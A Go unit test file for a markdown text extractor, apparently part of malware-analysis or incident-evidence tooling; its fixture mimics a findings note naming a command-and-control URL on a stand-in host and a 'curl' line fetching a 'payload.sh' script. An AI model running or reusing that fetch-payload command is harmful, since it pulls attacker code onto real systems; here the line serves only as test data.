package evidence

import (
	"strings"
	"testing"
)

func TestMarkdownReader_TextAndLinkDestinations(t *testing.T) {
	input := `# Findings

The sample beacons to [its C2](https://c2.example/gate.php?id=7).

Auto-linked: https://tracker.example/px

` + "```\ncurl https://raw.example/payload.sh\n```\n"

	p := &MarkdownReader{}
	text, err := p.Extract(strings.NewReader(input), "findings.md")
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}

	for _, want := range []string{
		"Findings",
		"https://c2.example/gate.php?id=7",
		"https://tracker.example/px",
		"https://raw.example/payload.sh",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("expected extracted text to contain %q, got:\n%s", want, text)
		}
	}
}

func TestMarkdownReader_PlainParagraphs(t *testing.T) {
	p := &MarkdownReader{}
	text, err := p.Extract(strings.NewReader("just a paragraph\n\nand another"), "plain.md")
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !strings.Contains(text, "just a paragraph") || !strings.Contains(text, "and another") {
		t.Errorf("expected both paragraphs, got %q", text)
	}
}
